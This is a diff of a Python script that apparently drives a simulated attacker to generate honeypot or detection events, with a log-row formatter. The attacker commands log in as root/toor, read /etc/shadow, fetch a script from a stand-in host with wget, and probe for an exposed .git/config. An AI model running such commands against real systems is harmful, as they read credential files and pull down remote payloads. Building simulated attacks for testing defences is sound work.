@@ -32,13 +32,16 @@ def _guess(attacker: Attacker, address: str) -> str:
 
 def _commands(attacker: Attacker, address: str) -> str:
     return attacker.shell(
-        address, "root", "toor", "id; uname -a; cat /etc/shadow | head -3; wget -T 3 http://198.51.100.7/x.sh"
+        address,
+        "root",
+        "toor",
+        "id; uname -a; cat /etc/shadow | head -3; wget -t 1 -T 3 http://198.51.100.7/x.sh",
     )
 
 
 def _pages(attacker: Attacker, address: str) -> str:
     return attacker.do(
-        "curl", "-s", "-o", "/dev/null", "-w", "%{http_code} %{url_effective}\n",
+        "curl", "-s", "-o", "/dev/null", "-o", "/dev/null", "-w", "%{http_code} %{url_effective}\n",
         f"http://{address}/", f"http://{address}/.git/config",
     )  # fmt: skip
 
@@ -80,7 +83,7 @@ def _describe(row: dict[str, Any]) -> str:
         what = " ".join(
             fields[k] for k in ("principal", "command", "method", "path", "version") if fields.get(k)
         )
-    return f"{row['occurred_at'][11:23]}  {row['service']:<5} {row['event_id']:<15} {row['src_ip']}  {what}"
+    return f"{row['occurred_at'].split('+')[0][11:23]:<12}  {row['service']:<5} {row['event_id']:<15} {row['src_ip']}  {what}"
 
 
 def main() -> int:
